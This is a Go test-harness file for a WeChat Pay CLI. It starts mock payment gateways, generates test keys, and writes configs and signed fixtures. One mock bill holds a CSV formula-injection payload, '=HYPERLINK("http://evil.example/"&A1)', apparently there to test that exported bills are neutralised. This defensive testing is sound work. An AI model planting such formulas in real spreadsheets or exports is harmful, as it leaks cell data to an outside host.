package main

import (
	"crypto/rand"
	"crypto/rsa"
	"crypto/x509"
	"encoding/base64"
	"encoding/pem"
	"fmt"
	"log/slog"
	"maps"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	gmsm2 "github.com/emmansun/gmsm/sm2"
	"github.com/emmansun/gmsm/smx509"
	"github.com/rogpeppe/go-internal/testscript"
	"github.com/stretchr/testify/require"
	"github.com/youmark/pkcs8"

	"github.com/wechatpay-chain/wxpay/auth"
	"github.com/wechatpay-chain/wxpay/internal/cli/clitest"
	"github.com/wechatpay-chain/wxpay/internal/cli/output"
	"github.com/wechatpay-chain/wxpay/wxpaytest"
)

const (
	scriptSerial = "5157F09EFDC096DE15EBE81A47057A7232F1B8E1"
	scriptKeyID  = "PUB_KEY_ID_0119000000012025010100000000000001"
	scriptBill   = "\ufeff交易时间,商户订单号,订单金额,商品名称\r\n" +
		"`2025-01-31 08:00:00,`T1,`1.00,`a \"quoted\", name\r\n" +
		"`2025-01-31 09:00:00,`T2,`2.50,`<茶> & 水\r\n" +
		"总交易单数,订单总金额\r\n" +
		"`2,`3.50\r\n"
)

// scriptKeys are the keys of a run: making them takes most of its time.
type scriptKeys struct {
	merchant, platform *rsa.PrivateKey
	apiv3, apiv2       string
}

func newScriptKeys(tb testing.TB) *scriptKeys {
	tb.Helper()
	k := &scriptKeys{apiv3: auth.Nonce(), apiv2: auth.Nonce()}
	var err error
	k.merchant, err = rsa.GenerateKey(rand.Reader, 2048)
	require.NoError(tb, err)
	k.platform, err = rsa.GenerateKey(rand.Reader, 2048)
	require.NoError(tb, err)
	return k
}

func (k *scriptKeys) merchantPEM(tb testing.TB) []byte {
	tb.Helper()
	der, err := x509.MarshalPKCS8PrivateKey(k.merchant)
	require.NoError(tb, err)
	return pem.EncodeToMemory(&pem.Block{Type: "PRIVATE KEY", Bytes: der})
}

// secrets are what no output may hold: each line of the private key is one.
func (k *scriptKeys) secrets() map[string]string {
	secrets := map[string]string{
		"the APIv3 key": k.apiv3, "the APIv2 key": k.apiv2,
		"the password of the proxy": "word-of-the-proxy", "the password of another": "secret-of-",
	}
	der, err := x509.MarshalPKCS8PrivateKey(k.merchant)
	if err != nil {
		return map[string]string{"the private key could not be written": ""}
	}
	text := base64.StdEncoding.EncodeToString(der)
	for i := 64; i+64 < len(text); i += 64 { // the first says but that it is an RSA key
		secrets[fmt.Sprintf("line %d of the private key", i/64)] = text[i : i+64]
	}
	return secrets
}

// scriptGateways are those of one script: shop is in public-key mode, certs has platform
// certificates, of which one ends in ten days.
type scriptGateways struct {
	shop, certs *wxpaytest.Server
	proxy       *clitest.Proxy
	untrusted   *httptest.Server // its certificate is of nobody's CA
}

// close ends the gateways and fails the test if a request was wrongly signed.
func (g *scriptGateways) close(tb testing.TB) {
	tb.Helper()
	for _, server := range []*wxpaytest.Server{g.shop, g.certs} {
		for _, r := range server.Requests() {
			require.NoError(tb, r.Err, r.Target)
		}
		server.Close()
	}
	g.untrusted.Close()
}

// count counts the requests that match, as a line "METHOD TARGET", the headers and the body.
func (g *scriptGateways) count(ts *testscript.TestScript, pattern string) (n int, all string) {
	re, err := regexp.Compile(pattern)
	ts.Check(err)
	for _, r := range slices.Concat(g.shop.Requests(), g.certs.Requests()) {
		text := r.Method + " " + r.Target + "\n"
		for _, name := range slices.Sorted(maps.Keys(r.Header)) {
			text += name + ": " + strings.Join(r.Header[name], ", ") + "\n"
		}
		text += "\n" + string(r.Body) + "\n"
		if all += text; re.MatchString(text) {
			n++
		}
	}
	return n, all
}

// setup starts the gateways of a script and writes what it works with:
//
//	config.toml            the profiles, by $WXPAY_CONFIG: shop (the default), certs, new (no
//	                       platform key), v2 (its key alone), stranger (a wrong APIv3 key), offline
//	keys/                  apiclient_key.pem, pub_key.pem, sm2_key.pem, sm2_pub.pem,
//	                       encrypted_key.pem (its password is the merchant ID)
//	fix/                   answer.http, notification.http, notification.json, resource.json,
//	                       sealed.txt, req_info.txt; old.http, old.body, old.signature (of 1735689600)
//	$GATEWAY $CERTS        the base URLs
//	$MCHID $SERIAL $KEY_ID $APIV3KEY
//	$PROXY $STRANGE_PROXY  a proxy's URL, and with a wrong password
//	$UNTRUSTED             the URL of a server that no CA vouches for
func (k *scriptKeys) setup(env *testscript.Env) (*scriptGateways, error) {
	tb := env.T().(testing.TB) // TestScripts has looked
	common := []wxpaytest.Option{
		wxpaytest.Plain(), wxpaytest.MerchantKey(scriptSerial, k.merchant), wxpaytest.APIv3Key(auth.Secret(k.apiv3)),
		wxpaytest.APIv2Key(auth.Secret(k.apiv2)),
	}
	shop, err := wxpaytest.Start(append(common, wxpaytest.PlatformKey(scriptKeyID, k.platform))...)
	if err != nil {
		return nil, err
	}
	certs, err := wxpaytest.Start(append(slices.Clone(common), wxpaytest.CertificateMode())...)
	if err != nil {
		shop.Close()
		return nil, err
	}
	certs.NewCertificate(time.Now().Add(-time.Hour), time.Now().Add(10*24*time.Hour+time.Hour))
	scriptHandlers(shop)
	scriptHandlers(certs)
	write := func(name string, content []byte) {
		path := filepath.Join(env.WorkDir, name)
		require.NoError(tb, os.MkdirAll(filepath.Dir(path), 0o700))
		require.NoError(tb, os.WriteFile(path, content, 0o600))
	}
	public, err := x509.MarshalPKIXPublicKey(&k.platform.PublicKey)
	require.NoError(tb, err)
	write("keys/apiclient_key.pem", k.merchantPEM(tb))
	write("keys/pub_key.pem", pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: public}))
	encrypted, err := pkcs8.MarshalPrivateKey(k.merchant, []byte(shop.Config().MchID), nil)
	require.NoError(tb, err)
	write("keys/encrypted_key.pem", pem.EncodeToMemory(&pem.Block{Type: "ENCRYPTED PRIVATE KEY", Bytes: encrypted}))
	national, err := gmsm2.GenerateKey(rand.Reader)
	require.NoError(tb, err)
	private, err := smx509.MarshalPKCS8PrivateKey(national)
	require.NoError(tb, err)
	write("keys/sm2_key.pem", pem.EncodeToMemory(&pem.Block{Type: "PRIVATE KEY", Bytes: private}))
	public, err = smx509.MarshalPKIXPublicKey(&national.PublicKey)
	require.NoError(tb, err)
	write("keys/sm2_pub.pem", pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: public}))
	write("config.toml", []byte(k.profiles(shop.URL(), certs.URL())))
	k.fixtures(tb, shop, write)
	proxy := clitest.NewProxy(tb)
	untrusted := httptest.NewTLSServer(http.NotFoundHandler())
	untrusted.Config.ErrorLog = slog.NewLogLogger(slog.DiscardHandler, slog.LevelError)
	for name, value := range map[string]string{
		"WXPAY_CONFIG": filepath.Join(env.WorkDir, "config.toml"), "GATEWAY": shop.URL(), "CERTS": certs.URL(),
		"GATEWAY_HOST": strings.TrimSuffix(strings.TrimPrefix(shop.URL(), "http://"), "/"),
		"MCHID":        shop.Config().MchID, "SERIAL": scriptSerial, "KEY_ID": scriptKeyID, "APIV3KEY": k.apiv3,
		"PROXY": proxy.URL(), "STRANGE_PROXY": "http://shop:secret-of-two@" + proxy.Host,
		"UNTRUSTED": untrusted.URL + "/",
	} {
		env.Setenv(name, value)
	}
	return &scriptGateways{shop, certs, proxy, untrusted}, nil
}

func (k *scriptKeys) profiles(shop, certs string) string {
	const merchant = "mchid = \"1900000001\"\nserial = \"" + scriptSerial + "\"\nprivate_key = \"file://keys/apiclient_key.pem\"\n"
	const platform = "platform_key_id = \"" + scriptKeyID + "\"\nplatform_key = \"file://keys/pub_key.pem\"\n"
	v3, v2 := "apiv3_key = \""+k.apiv3+"\"\n", "apiv2_key = \""+k.apiv2+"\"\n"
	return "default = \"shop\"\n" +
		"[profiles.shop]\nbase_uri = \"" + shop + "\"\n" + merchant + platform + v3 + v2 +
		"[profiles.certs]\nbase_uri = \"" + certs + "\"\n" + merchant + v3 + v2 +
		"[profiles.new]\nbase_uri = \"" + shop + "\"\n" + merchant + v3 +
		"[profiles.v2]\nbase_uri = \"" + shop + "\"\nmchid = \"1900000001\"\n" + v2 +
		"[profiles.stranger]\nbase_uri = \"" + certs + "\"\n" + merchant + "apiv3_key = \"" + strings.Repeat("x", 32) + "\"\n" +
		"[profiles.offline]\nbase_uri = \"http://127.0.0.1:1/\"\n" + merchant + platform + v3 + v2
}

// scriptHandlers are the answers that scripts may count on.
func scriptHandlers(s *wxpaytest.Server) {
	reply := func(pattern string, r wxpaytest.Reply) {
		s.Handle(pattern, func(*wxpaytest.Request) wxpaytest.Reply { return r })
	}
	reply("POST /v3/pay/transactions/native", wxpaytest.Reply{Body: `{"code_url":"weixin://wxpay/bizpayurl?pr=JyC91EIz1"}`})
	reply("GET /v3/pay/transactions/id/{transaction_id}",
		wxpaytest.Reply{Body: `{"transaction_id":"4200000000000000000001","trade_state":"SUCCESS","amount":{"total":100}}`})
	reply("GET /v3/pay/transactions/out-trade-no/{out_trade_no}", wxpaytest.ErrorReply(http.StatusNotFound, "ORDER_NOT_EXIST", "订单不存在"))
	reply("POST /v3/pay/transactions/out-trade-no/{out_trade_no}/close", wxpaytest.Reply{})
	reply("POST /v3/refund/domestic/refunds", wxpaytest.Reply{Body: `{"refund_id":"50000000382019052709732678859","status":"PROCESSING"}`})
	reply("POST /v3/merchant/media/upload", wxpaytest.Reply{Body: `{"media_id":"H1ihR9JUtVj-J7CJqBUY5ZOrG_Je75H"}`})
	reply("POST /v2/pay/unifiedorder", wxpaytest.Reply{Body: map[string]string{
		"return_code": "SUCCESS", "result_code": "SUCCESS", "code_url": "weixin://wxpay/s/An4baqw",
	}})
	reply("/v3/test/server-error", wxpaytest.ErrorReply(http.StatusInternalServerError, "SYSTEM_ERROR", "系统繁忙"))
	reply("POST /v3/pay/transactions/codepay", wxpaytest.ErrorReply(http.StatusAccepted, "USERPAYING", "需要用户输入支付密码"))
	reply("POST /v3/new-tax-control-fapiao/fapiao-applications", wxpaytest.Reply{Status: http.StatusAccepted})
	reply("/v3/test/bad-gateway", wxpaytest.BadGateway())
	reply("POST /v3/pay/transactions/h5", wxpaytest.ErrorReply(http.StatusBadRequest, "PARAM_ERROR", "参数错误"))
	for _, wrong := range []string{"/v3/pay/transaction/native", "GET /v3/pay/transactions/native", "/v3/pay/transactions/nativ", "/v3/teas"} {
		reply(wrong, wxpaytest.Reply{Status: http.StatusNotFound}) // as WeChat Pay answers about a path that it does not know
	}
	reply("/v3/test/rate-limited", wxpaytest.RateLimited())
	reply("/v3/test/bad-signature", wxpaytest.Reply{Body: `{"a":1}`, Fault: wxpaytest.BadSignature()})
	reply("/v3/test/cut", wxpaytest.Reply{Body: `{"a":1}`, Fault: wxpaytest.Truncate()})
	reply("/v3/test/drop", wxpaytest.Reply{Fault: wxpaytest.Drop()})
	reply("/v3/test/hang", wxpaytest.Reply{Fault: wxpaytest.Hang()})
	s.Handle("/v3/test/sign-error", wxpaytest.SignError)
	scriptLists(s)

	const content = scriptBill
	s.HandleDownload("GET /v3/bill/tradebill", wxpaytest.Download{Content: []byte(content)})
	s.HandleDownload("GET /v3/bill/fundflowbill", wxpaytest.Download{Content: []byte(content), HashType: "SHA256"})
	s.HandleDownload("GET /v3/bill/sub-merchant-fundflowbill",
		wxpaytest.Download{Content: []byte(content), Algorithm: "AEAD_AES_256_GCM", Parts: 2})
	s.HandleDownload("GET /v3/ecommerce/bill/fundflowbill", wxpaytest.Download{Content: []byte(content), Algorithm: "AEAD_AES_256_GCM"})
	s.HandleDownload("GET /v3/profitsharing/bills", wxpaytest.Download{Content: []byte(content)})
	s.HandleDownload("GET /v3/test/bill/wrong-hash", wxpaytest.Download{Content: []byte(content), WrongHash: true})
	s.HandleDownload("GET /v3/test/bill/irregular",
		wxpaytest.Download{Content: []byte("a,b,a\r\n`1,`2,`3\r\n`4,`5,`6,`7\r\n`8,`9,`10\r\n")})
	s.HandleDownload("GET /v3/test/bill/formulas", wxpaytest.Download{Content: []byte("\ufeff微信订单号,商户订单号,退款金额,商品名称\r\n" +
		"`4200000000000000000000000001,`000123,`-0.02000,`=HYPERLINK(\"http://evil.example/\"&A1)\r\n" +
		"`4200000000000000000000000002,`12E10,`1.00,`＠SUM(1)\r\n")})
	reply("GET /v3/test/bill/none", wxpaytest.ErrorReply(http.StatusBadRequest, "NO_STATEMENT_EXIST", "账单文件不存在"))
	reply("GET /v3/test/bill/unhashed", wxpaytest.Reply{Body: `{"download_url":"` + s.URL() + `v3/test/bill/file"}`})
	reply("GET /v3/test/bill/file", wxpaytest.FileReply("text/csv", []byte(content)))
}

// scriptLists are the answers that come in pages, and that change.
func scriptLists(s *wxpaytest.Server) {
	list := func(pattern string, total int) {
		s.Handle(pattern, func(r *wxpaytest.Request) wxpaytest.Reply {
			offset, _ := strconv.Atoi(r.Query().Get("offset"))
			limit, err := strconv.Atoi(r.Query().Get("limit"))
			if err != nil {
				limit = 10
			}
			rows := []any{}
			for i := offset; i < min(offset+limit, 5); i++ {
				rows = append(rows, map[string]any{"complaint_id": "C" + strconv.Itoa(i), "n": 9007199254740993 + i})
			}
			return wxpaytest.Reply{Body: map[string]any{"data": rows, "total_count": total, "offset": offset, "limit": limit}}
		})
	}
	list("GET /v3/merchant-service/complaints-v2", 5)
	list("GET /v3/test/list/short", 7)
	var looks atomic.Int32
	s.Handle("GET /v3/refund/domestic/refunds/{out_refund_no}", func(r *wxpaytest.Request) wxpaytest.Reply {
		state := "PROCESSING"
		if r.PathValue("out_refund_no") != "R-never" && looks.Add(1)%3 == 0 {
			state = "SUCCESS"
		}
		return wxpaytest.Reply{Body: map[string]string{"out_refund_no": r.PathValue("out_refund_no"), "status": state}}
	})
}

// fixtures writes what the offline commands read.
func (k *scriptKeys) fixtures(tb testing.TB, s *wxpaytest.Server, write func(string, []byte)) {
	tb.Helper()
	body := []byte(`{"code_url":"weixin://wxpay/bizpayurl?pr=1"}`)
	write("fix/answer.http", dumpOf("HTTP/1.1 200 OK", s.Sign(body), body))
	header, body, err := s.Notification(wxpaytest.Notification{Resource: map[string]string{"out_trade_no": "T1", "trade_state": "SUCCESS"}})
	require.NoError(tb, err)
	write("fix/notification.http", dumpOf("POST /notify HTTP/1.1", header, body))
	write("fix/notification.json", body)
	resource := auth.Resource{Algorithm: auth.AEADAES256GCM, Nonce: "0123456789ab", AssociatedData: "certificate"}
	require.NoError(tb, resource.Seal(auth.Secret(k.apiv3), []byte("plain resource")))
	write("fix/resource.json", output.JSONText(resource))
	write("fix/sealed.txt", []byte(s.Encrypt("张三")+"\n"))
	reqInfo, err := auth.SealReqInfo(auth.Secret(k.apiv2), []byte("<root><refund_id>R1</refund_id></root>"))
	require.NoError(tb, err)
	write("fix/req_info.txt", []byte(reqInfo))

	old := []byte("{\"old\":true}\n")
	stamp := strconv.Itoa(1735689600)
	signature, err := auth.Sign(k.platform, auth.AnswerMessage(stamp, "nonce1", old))
	require.NoError(tb, err)
	write("fix/old.http", dumpOf("HTTP/2 200", http.Header{
		"Wechatpay-Timestamp": {stamp}, "Wechatpay-Nonce": {"nonce1"}, "Wechatpay-Serial": {scriptKeyID},
		"Wechatpay-Signature": {base64.StdEncoding.EncodeToString(signature)},
	}, old))
	write("fix/old.body", old)
	write("fix/old.signature", []byte(base64.StdEncoding.EncodeToString(signature)))
}

// dumpOf is a message as it is on the wire.
func dumpOf(start string, header http.Header, body []byte) []byte {
	text := start + "\r\n"
	for _, name := range slices.Sorted(maps.Keys(header)) {
		for _, value := range header[name] {
			text += name + ": " + value + "\r\n"
		}
	}
	return append([]byte(text+"\r\n"), body...)
}
